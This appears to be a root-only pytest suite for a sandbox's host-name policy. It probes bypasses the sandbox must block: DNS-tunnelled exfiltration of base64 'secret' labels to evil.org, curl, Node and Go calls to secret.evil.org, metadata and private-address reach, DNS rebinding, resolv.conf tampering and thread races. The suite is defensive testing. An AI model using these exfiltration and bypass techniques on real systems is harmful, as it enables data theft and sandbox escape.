"""Names of hosts in a session: asked through the session alone, judged with the address that they led to, whoever asks and however."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import textwrap
import threading
import time
from pathlib import Path

import pytest

from tests.kernel.drive import EVERYTHING, FILE_VERBS, Drive, Message, grant, policy, rule
from tests.kernel.world import METADATA, OTHER, PORT, PRIVATE, PUBLIC, SERVER, SIX, World, folder, in_world
from tests.tries import tries

PYTHON = "/usr/bin/python3"
NOBODY = 65534
USERS = [None, NOBODY] if os.getuid() == 0 else [None]
pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="needs root: makes a network of its own")
ZONE = {
    "api.example.com": [PUBLIC],
    "six.example.com": [SIX],
    "both.example.com": [PUBLIC, SIX],
    "cdn.example.org": [PUBLIC],
    "other.example.com": [OTHER],
    "db.example.internal": [PRIVATE],
    "inward.example.com": [PRIVATE],
    "meta.example.com": [METADATA],
    "many.example.com": [f"198.51.100.{last}" for last in range(60)],
}
FILES = rule("files", "allow", FILE_VERBS, path=["/**"])
RUN = rule("run", "allow", ["process.exec"], path=["/**"])
SIGNAL = rule("signal", "allow", ["process.signal"], to="inside")
LOCAL = rule("local", "allow", ["net.bind", "unix.connect"])
HOST = rule("host", "allow", ["net.connect"], host=["*.example.com"], port=[[PORT, PORT]])
DATABASE = rule("database", "allow", ["net.connect"], host=["db.example.internal"], private=True)
POLICY = policy(FILES, RUN, SIGNAL, LOCAL, HOST, DATABASE)
CONNECT = """
import socket, sys
def reach(host, port=443, family=0):
    try:
        found = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)
    except socket.gaierror as error:
        return 'no name'
    said = 'nothing'
    for family, kind, protocol, _, address in found:
        with socket.socket(family, kind, protocol) as peer:
            try:
                peer.connect(address)
                return peer.recv(200).decode().rpartition('\\r\\n')[2]
            except OSError as error:
                said = f'errno {error.errno}'
    return said
"""


def run(script: str, compiled: Message = POLICY, *, user: int | None = None, program: str = PYTHON, **changes: object) -> str:
    """Runs a text in a session; what it printed."""
    words = {PYTHON: [PYTHON, "-I", "-c"], "/bin/sh": ["/bin/sh", "-c"]}.get(program, [program, "-e"])
    with Drive([*words, textwrap.dedent(script)], compiled, user=user, **changes) as drive:  # type: ignore[arg-type]
        last, out, err = drive.finish(60)
        assert last["type"] == "exited", last
    return (out + err).decode()


@pytest.mark.parametrize("user", USERS)
def test_an_allowed_name_is_reached_and_no_other(user: int | None) -> None:
    def act(world: World) -> None:
        names = ["api.example.com", "API.Example.com.", "six.example.com", "both.example.com", "cdn.example.org", "secret.evil.org"]
        said = run(CONNECT + f"for name in {names}: print(reach(name))", user=user).split("\n")
        assert said[:4] in ([PUBLIC, PUBLIC, SIX, PUBLIC], [PUBLIC, PUBLIC, SIX, SIX])
        assert said[4:6] == ["errno 13", "errno 13"]
        assert set(world.asked) == {"api.example.com", "six.example.com", "both.example.com"}
        assert set(world.reached) == {PUBLIC, SIX}

    in_world(act, ZONE)


@pytest.mark.parametrize("user", USERS)
def test_a_name_leads_only_where_its_rule_lets_names_lead(user: int | None) -> None:
    def act(world: World) -> None:
        names = ["inward.example.com", "meta.example.com", "db.example.internal"]
        assert run(CONNECT + f"for name in {names}: print(reach(name))", user=user).split() == [*["errno", "13"] * 2, PRIVATE]
        assert world.reached == [PRIVATE]

    in_world(act, ZONE)


def test_an_address_that_no_allowed_name_led_to_is_not_reached() -> None:
    def act(world: World) -> None:
        literal = [OTHER, f"::ffff:{OTHER}", METADATA, PRIVATE, f"::ffff:{METADATA}"]
        said = run(CONNECT + f"for address in {literal}: print(reach(address))")
        assert said.split() == ["errno", "13"] * len(literal) and not world.reached
        mapped = "peer = socket.socket(socket.AF_INET6); peer.connect(('::ffff:203.0.113.7', 443)); print(peer.recv(200)[-11:].decode())"
        assert run(CONNECT + "socket.getaddrinfo('api.example.com', 443)\n" + mapped) == f"{PUBLIC}\n"

    in_world(act, ZONE)


def test_a_name_that_changes_its_answer_gains_nothing() -> None:
    turns = {"turn.example.com": lambda count: [PUBLIC] if count == 1 else [PRIVATE], "api.example.com": [PUBLIC]}

    def act(world: World) -> None:
        script = """
        print(socket.getaddrinfo('turn.example.com', 443, socket.AF_INET)[0][4][0], reach('turn.example.com', family=socket.AF_INET))
        with socket.socket() as peer:
            print(peer.connect_ex(('10.1.2.3', 443)))
        """
        assert run(CONNECT + textwrap.dedent(script)).split() == [PUBLIC, "errno", "13", "13"]
        assert not world.reached

    in_world(act, turns)


def test_no_label_of_a_name_that_nothing_allows_leaves_the_machine() -> None:
    def act(world: World) -> None:
        script = """
        import os, struct
        def ask(name, kind, server='8.8.8.8', stream=False):
            labels = b''.join(bytes([len(label)]) + label for label in name.split(b'.'))
            message = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1)
            peer = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
            peer.settimeout(5)
            if stream:
                peer.connect((server, 53)); peer.sendall(struct.pack('>H', len(message)) + message)
                return peer.recv(1000)[2:]
            peer.sendto(message, (server, 53))
            answer, source = peer.recvfrom(1000)
            assert source == (server, 53), source
            return answer
        for kind in (1, 28, 5, 16, 15, 33, 64, 65, 255):
            for stream in (False, True):
                answer = ask(b'c2VjcmV0.evil.org', kind, stream=stream)
                print(kind, answer[3] & 15, answer[7], end=';')
        for kind in (16, 64, 65, 33):
            print(ask(b'c2VjcmV0.api.example.com', kind)[7], ask(b'api.example.com', kind)[7], end=';')
        for name in (b'a\\0b.example.com', b'c2VjcmV0 .example.com', b'c2Vj\\xff.example.com', b'x' * 63 + b'.example.com.evil.org'):
            print(ask(name, 1)[3] & 15, end=';')
        """
        said = run(CONNECT + textwrap.dedent(script))
        own = ";".join(f"{kind} 0 {int(kind == 1)}" for kind in (1, 28, 5, 16, 15, 33, 64, 65, 255) for _ in range(2))
        assert said == f"{own};" + "0 0;" * 4 + "1;1;1;0;"
        assert not world.asked

    in_world(act, ZONE)


CLIENTS = {
    "unconnected": "s = sock(); s.sendto(Q, A); print(s.recvfrom(999)[1])",
    "bound first, as musl does": "s = sock(); s.bind(('0.0.0.0', 0)); n = s.getsockname(); s.sendto(Q, A); print(s.recvfrom(999)[1], s.getsockname()[1] == n[1])",
    "connected": "s = sock(); s.connect(A); s.send(Q); s.recv(999); print(s.getpeername())",
    "sendmsg": "s = sock(); s.sendmsg([Q], [], 0, A); print(s.recvfrom(999)[1])",
    "IPv6 socket, mapped": "s = sock(socket.AF_INET6); s.sendto(Q, ('::ffff:9.9.9.9', 53)); print(s.recvfrom(999)[1][:2])",
    "IPv6 server": "s = sock(socket.AF_INET6); s.sendto(Q, ('2620:fe::fe', 53)); print(s.recvfrom(999)[1][:2])",
    "IPv6 server, connected": "s = sock(socket.AF_INET6); s.connect(('2620:fe::fe', 53)); s.send(Q); s.recv(999); print(s.getpeername()[:2])",
    "two servers by one socket": "s = sock(); s.sendto(Q, A); a = s.recvfrom(999)[1]; s.sendto(Q, ('1.1.1.1', 53)); print(a, s.recvfrom(999)[1])",
    "poll": "s = sock(); p = select.poll(); p.register(s, 1); s.setblocking(False); s.sendto(Q, A); print([e for _, e in p.poll(5000)], s.recvfrom(999)[1])",
    "select": "s = sock(); s.setblocking(False); s.sendto(Q, A); print(len(select.select([s], [], [], 5)[0]), s.recvfrom(999)[1])",
    "epoll before the first send": "s = sock(); e = select.epoll(); e.register(s, 1); s.sendto(Q, A); print([x for _, x in e.poll(5)], len(s.recv(999)) > 30); e.modify(s, 4); print([x for _, x in e.poll(5)]); e.unregister(s); print(e.poll(0.05))",
    "epoll before connect": "s = sock(); e = select.epoll(); e.register(s, 1); s.connect(A); s.send(Q); print([x for _, x in e.poll(5)], len(s.recv(999)) > 30)",
    "stream": "s = socket.create_connection(A, 5); s.sendall(len(Q).to_bytes(2) + Q); print(len(s.recv(999)) > 30, s.getpeername())",
    "stream that does not wait": "s = socket.socket(); s.setblocking(False); r = s.connect_ex(A); e = select.epoll(); e.register(s, 4); print(r in (0, 115), [x for _, x in e.poll(5)]); s.send(len(Q).to_bytes(2) + Q); s.setblocking(True); print(len(s.recv(999)) > 30)",
    "two questions by one stream": "s = socket.create_connection(A, 5); s.sendall((len(Q).to_bytes(2) + Q) * 2); f = s.makefile('rb'); print([len(f.read(int.from_bytes(f.read(2)))) > 30 for _ in range(2)])",
    "asyncio": "print(asyncio.run(aio()))",
    "its time limit": "s = socket.socket(2, 2); s.setsockopt(1, 20, struct.pack('qq', 0, 50000)); s.sendto(Q, A); s.recv(999); o = s.getsockopt(1, 20, 16); print(struct.unpack('qq', o)[1] > 0)",
    "closed on exec": "s = sock(); fcntl.fcntl(s, 2, 1); s.sendto(Q, A); print(fcntl.fcntl(s, 1)); t = sock(); fcntl.fcntl(t, 2, 0); t.sendto(Q, A); print(fcntl.fcntl(t, 1))",
    "a copy of its descriptor": "s = sock(); s.sendto(Q, A); t = s.dup(); t.sendto(Q, A); print(len(s.recv(999)) > 30, len(s.recv(999)) > 30)",
    "address sorting": "socket.getaddrinfo('api.example.com', 443); s = sock(); s.connect(('203.0.113.7', 443)); print(s.getsockname()[0])",
    "address sorting, denied": "s = sock(); print(s.connect_ex(('203.0.113.8', 443)))",
}
SAID = {
    "unconnected": "('9.9.9.9', 53)",
    "bound first, as musl does": "('9.9.9.9', 53) True",
    "connected": "('9.9.9.9', 53)",
    "sendmsg": "('9.9.9.9', 53)",
    "IPv6 socket, mapped": "('::ffff:9.9.9.9', 53)",
    "IPv6 server": "('2620:fe::fe', 53)",
    "IPv6 server, connected": "('2620:fe::fe', 53)",
    "two servers by one socket": "('9.9.9.9', 53) ('1.1.1.1', 53)",
    "poll": "[1] ('9.9.9.9', 53)",
    "select": "1 ('9.9.9.9', 53)",
    "epoll before the first send": "[1] True\n[4]\n[]",
    "epoll before connect": "[1] True",
    "stream": "True ('9.9.9.9', 53)",
    "stream that does not wait": "True [4]\nTrue",
    "two questions by one stream": "[True, True]",
    "asyncio": "True",
    "its time limit": "True",
    "closed on exec": "1\n0",
    "a copy of its descriptor": "True True",
    "address sorting": PUBLIC,
    "address sorting, denied": "13",
}
HEAD = """
import asyncio, fcntl, select, socket, struct
Q = bytes.fromhex('123401000001000000000000') + b'\\3api\\7example\\3com\\0\\0\\1\\0\\1'
A = ('9.9.9.9', 53)
def sock(family=socket.AF_INET):
    made = socket.socket(family, socket.SOCK_DGRAM)
    made.settimeout(5)
    return made
class Asks(asyncio.DatagramProtocol):
    def connection_made(self, transport): transport.sendto(Q, A)
    def datagram_received(self, data, address): self.done.set_result(len(data) > 30)
async def aio():
    asks = Asks(); asks.done = asyncio.get_running_loop().create_future()
    await asyncio.get_running_loop().create_datagram_endpoint(lambda: asks, local_addr=('0.0.0.0', 0))
    return await asyncio.wait_for(asks.done, 5)
"""


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("client", CLIENTS)
def test_every_way_of_asking_is_answered(client: str, user: int | None) -> None:
    in_world(lambda world: _same(run(HEAD + CLIENTS[client], user=user), SAID[client]), ZONE)


def _same(said: str, wanted: str) -> None:
    assert said.strip() == wanted, said


def test_the_machines_own_words_count_and_a_changed_resolv_conf_does_not() -> None:
    def act(world: World) -> None:
        script = """
        print(reach('short'))
        open('/etc/resolv.conf', 'w').write('nameserver 203.0.113.8\\n')
        print(reach('api.example.com'), reach('known.example.com'))
        """
        assert run(CONNECT + textwrap.dedent(script)).split() == [PUBLIC, PUBLIC, OTHER]
        assert set(world.asked) == {"api.example.com", "short.example.com"}

    zone = ZONE | {"short.example.com": [PUBLIC]}
    resolv = "search nowhere.example.org example.com\nnameserver 192.0.2.53\noptions timeout:1\n"
    in_world(act, zone, resolv=resolv, hosts=f"127.0.0.1 localhost\n{OTHER} known.example.com\n")


@pytest.mark.parametrize("whose", ["root's", "the user's own", "led there by the user"])
def test_another_network_in_the_middle_is_followed_where_the_user_cannot_have_written_it(whose: str) -> None:
    """A laptop comes to another network: the same file, other servers. Who may write the file itself is not believed."""

    def act(world: World) -> None:
        begun = folder() / "begun"
        script = f"""
        print(reach('api.example.com'), flush=True)
        open({str(begun)!r}, 'w').close()
        for _ in range(10):
            time.sleep(0.5)
            if (said := reach('api.example.com')) != 'no name': break
        print(said)
        """

        def change() -> None:
            while not begun.exists():
                time.sleep(0.05)
            Path("/etc/resolv.conf").write_text(f"nameserver {SERVER}\n")

        if whose == "the user's own":
            os.chown("/etc/resolv.conf", NOBODY, NOBODY)
        elif whose == "led there by the user":
            _lead_resolv_conf_through(folder())
        threading.Thread(target=change, daemon=True).start()
        said = run("import time" + CONNECT + textwrap.dedent(script), user=NOBODY).splitlines()
        assert said == ["no name", PUBLIC if whose == "root's" else "no name"]

    in_world(act, ZONE, resolv="nameserver 192.0.2.99\noptions timeout:1\n")


def _lead_resolv_conf_through(place: Path) -> None:
    """The file is root's, but a link to it stands in a folder that everybody may write."""
    _mount("tmpfs", place, "mode=777")
    for name in ("upper", "work"):
        (place / name).mkdir(mode=0o755)
    _mount("overlay", Path("/etc"), f"lowerdir=/etc,upperdir={place}/upper,workdir={place}/work")
    kept = Path("/etc/interlock-resolv.conf")
    kept.write_text("nameserver 192.0.2.99\noptions timeout:1\n")
    (place / "resolv.conf").symlink_to(kept)
    Path("/etc/resolv.conf").unlink()
    Path("/etc/resolv.conf").symlink_to(place / "resolv.conf")


def _mount(kind: str, place: Path, options: str) -> None:
    subprocess.run(["mount", "-t", kind, "-o", options, kind, str(place)], check=True)


def test_a_long_answer_comes_by_tcp_and_a_server_that_is_silent_is_passed_over() -> None:
    def act(world: World) -> None:
        script = "print(len({found[4][0] for found in socket.getaddrinfo('many.example.com', 443, socket.AF_INET)}))"
        assert run(CONNECT + script) == "60\n"

    in_world(act, ZONE, resolv="nameserver 192.0.2.99\nnameserver 192.0.2.53\noptions timeout:1\n")


def test_a_name_that_a_person_is_asked_about_leaves_the_machine_after_the_yes() -> None:
    compiled = policy(FILES, RUN, SIGNAL, LOCAL, HOST, rule("ask", "approve", ["net.connect"], 60_000))
    zone = ZONE | {"asked.example.org": [OTHER], "lured.example.org": [PRIVATE]}

    def asked(world: World, name: str, yes: bool) -> str:
        script = textwrap.dedent(CONNECT + f"print(reach('{name}', family=socket.AF_INET))")
        with Drive([PYTHON, "-I", "-c", script], compiled) as drive:
            question = drive.until("question")
            assert question["action"]["target"]["host"] == name and name not in world.asked
            answer = grant(question, "yes" if yes else "no")
            drive.say({"type": "answer", "id": question["id"], "grant": answer, "reason": None})
            _, out, err = drive.finish(60)
        return (out + err).decode().strip()

    def act(world: World) -> None:
        assert asked(world, "asked.example.org", yes=False) == "errno 13" and not world.asked
        assert asked(world, "asked.example.org", yes=True) == OTHER
        assert asked(world, "lured.example.org", yes=True) == "errno 13"
        assert world.reached == [OTHER]

    in_world(act, zone)


def test_services_that_answer_names_besides_are_not_there() -> None:
    script = """
    for path in ('/run/nscd/socket', '/run/systemd/resolve/io.systemd.Resolve'):
        with socket.socket(socket.AF_UNIX) as peer:
            print(peer.connect_ex(path))
    """

    def act(_: World) -> None:
        places = ("/run/nscd", "/run/systemd/resolve")
        subprocess.run(["mount", "-t", "tmpfs", "none", "/run"], check=True)
        servers = []
        for place, name in zip(places, ("socket", "io.systemd.Resolve"), strict=True):
            os.makedirs(place)
            server = socket.socket(socket.AF_UNIX)
            server.bind(f"{place}/{name}")
            server.listen()
            servers.append(server)
        assert run("import socket\n" + textwrap.dedent(script)) == "111\n111\n"
        assert run("import socket\n" + textwrap.dedent(script), EVERYTHING) == "0\n0\n"

    in_world(act, ZONE)


@pytest.mark.parametrize("user", USERS)
def test_without_its_helper_a_session_answers_nothing_and_says_so(user: int | None) -> None:
    def act(world: World) -> None:
        place = folder()
        script = CONNECT + f"import os, time\nwhile not os.path.exists('{place}/go'): time.sleep(0.01)\nprint(reach('api.example.com'))"
        with Drive([PYTHON, "-I", "-c", script], POLICY, user=user) as drive:
            drive.until("started")
            own = Path("/proc/self/ns/net").readlink()
            children = Path(f"/proc/{drive.process.pid}/task/{drive.process.pid}/children").read_text().split()
            [helper] = [int(child) for child in children if Path(f"/proc/{child}/ns/net").readlink() != own]
            assert Path(f"/proc/{helper}/comm").read_text() == "jail-names\n", "lists of processes tell it from the supervisor"
            os.kill(helper, signal.SIGKILL)
            (place / "go").touch()
            denied = drive.until("denied")
            _, out, _ = drive.finish(60)
        shutil.rmtree(place)
        assert out.decode() == "no name\n" and not world.asked
        assert "names are not answered any more" in denied["decision"]["because"]

    in_world(act, ZONE)


NODE = """
const dns = require('dns'), net = require('net');
const said = (promise) => promise.then(String, (error) => (error.cause || error).code);
(async () => {
  console.log(await said(fetch('http://api.example.com:443/').then((answer) => answer.text())));
  console.log(await said(fetch('http://secret.evil.org:443/').then((answer) => answer.text())));
  console.log(await said(dns.promises.resolve4('api.example.com')), await said(dns.promises.resolve6('six.example.com')));
  console.log(await said(dns.promises.resolveTxt('api.example.com')), await said(dns.promises.lookup('none.example.com')));
})();
"""
GO = """
package main
import ("fmt"; "io"; "net"; "strings")
func main() {
	for _, name := range []string{"api.example.com:443", "six.example.com:443", "secret.evil.org:443"} {
		peer, err := net.Dial("tcp", name)
		if err != nil { fmt.Println("refused"); continue }
		said, _ := io.ReadAll(peer)
		fmt.Println(strings.TrimSpace(string(said[len(said)-12:])))
	}
}
"""


@pytest.mark.parametrize("user", USERS)
def test_clients_that_people_use_reach_what_is_allowed(user: int | None) -> None:
    curl, node = shutil.which("curl"), shutil.which("node")
    if curl is None or node is None:
        pytest.skip("needs curl and Node")

    def act(world: World) -> None:
        ways = f"{curl} -sS -m 9 http://api.example.com:{PORT}/; echo; {curl} -sS -m 9 http://secret.evil.org:{PORT}/ 2>&1"
        allowed, refused = run(ways, user=user, program="/bin/sh").strip().split("\n")
        assert allowed == PUBLIC and refused.startswith("curl: (7)") and "secret.evil.org" in refused
        said = run(NODE, user=user, program=node).strip().split("\n")
        assert said == [PUBLIC, "EACCES", f"{PUBLIC} {SIX}", "ENODATA ENOTFOUND"]
        assert not any("evil" in name for name in world.asked)

    in_world(act, ZONE)


def test_a_static_go_program_reaches_what_is_allowed() -> None:
    go = shutil.which("go") or "/usr/local/go/bin/go"
    if not os.path.exists(go):
        pytest.skip("needs Go, which builds a program without a C library")
    place = folder()
    (place / "dial.go").write_text(GO)
    environment = {**os.environ, "CGO_ENABLED": "0", "GOFLAGS": "-mod=mod", "GOCACHE": str(place / "cache"), "HOME": str(place)}
    subprocess.run([go, "build", "-o", place / "dial", place / "dial.go"], check=True, cwd=place, env=environment)
    in_world(lambda _: _same(run(str(place / "dial"), program="/bin/sh"), f"{PUBLIC}\n{SIX}\nrefused"), ZONE)
    shutil.rmtree(place, ignore_errors=True)


@pytest.mark.race
def test_threads_that_exchange_the_address_meanwhile_reach_nobody() -> None:
    count = tries(300)
    script = f"""
    import ctypes, socket, struct, threading
    socket.getaddrinfo('api.example.com', 443)
    libc = ctypes.CDLL(None, use_errno=True)
    name = ctypes.create_string_buffer(16)
    places = [struct.pack('=HH4s8x', 2, socket.htons(port), socket.inet_aton(address)) for address, port in
              (('203.0.113.7', 443), ('203.0.113.8', 443), ('9.9.9.9', 53), ('10.1.2.3', 443))]
    over = False
    def turn():
        while not over:
            for place in places:
                ctypes.memmove(name, place, 16)
    threading.Thread(target=turn).start()
    for number in range({count}):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM if number % 3 else socket.SOCK_DGRAM) as peer:
            if number % 3:
                libc.connect(peer.fileno(), name, 16)
            else:
                libc.sendto(peer.fileno(), b'x' * 40, 40, 0, name, 16)
    over = True
    print('done')
    """

    def act(world: World) -> None:
        assert run(script) == "done\n"
        assert set(world.reached) <= {PUBLIC} and PUBLIC in world.reached

    in_world(act, ZONE)


def test_a_server_of_this_machine_that_is_named_and_not_there_is_refused_as_natively() -> None:
    local = rule("here", "allow", ["net.connect"], host=["localhost"], private=True, port=[[5432, 5432]])

    def act(_: World) -> None:
        script = CONNECT + "print(reach('localhost', 5432, socket.AF_INET), reach('localhost', 5433, socket.AF_INET))"
        assert run(script, policy(FILES, RUN, local)) == "errno 111 errno 13\n"

    in_world(act, ZONE)


def test_where_names_cannot_be_answered_nothing_starts() -> None:
    missing = {"INTERLOCK_SIMULATE_MISSING": "host-names"}
    with Drive(["/bin/true"], POLICY, supervisor_environment=missing) as drive:
        failed = drive.until("failed")
    assert failed["code"] == 122 and "names cannot be answered" in failed["message"]
    short = {f"test/{name}": {"state": "not enforced", "reason": "no network"} for name in ("host", "database")}
    with Drive(["/bin/true"], POLICY, supervisor_environment=missing, short=short) as drive:
        assert "host-names" not in drive.until("started")["enforced"]
        assert drive.finish()[0]["code"] == 0


@pytest.mark.parametrize("user", USERS)
def test_a_policy_without_hosts_leaves_port_53_as_it_is(user: int | None) -> None:
    def act(world: World) -> None:
        compiled = policy(FILES, RUN, SIGNAL, LOCAL, rule("all", "allow", ["net.connect", "net.send"], address=[PUBLIC, SERVER]))
        with Drive([PYTHON, "-I", "-c", CONNECT + "print(reach('api.example.com'))"], compiled, user=user) as drive:
            assert "host-names" not in drive.until("started")["enforced"]
            children = Path(f"/proc/{drive.process.pid}/task/{drive.process.pid}/children").read_text().split()
            _, out, err = drive.finish(60)
        assert (out.decode(), len(children)) == (f"{PUBLIC}\n", 1), err
        assert set(world.asked) == {"api.example.com"}

    in_world(act, ZONE)
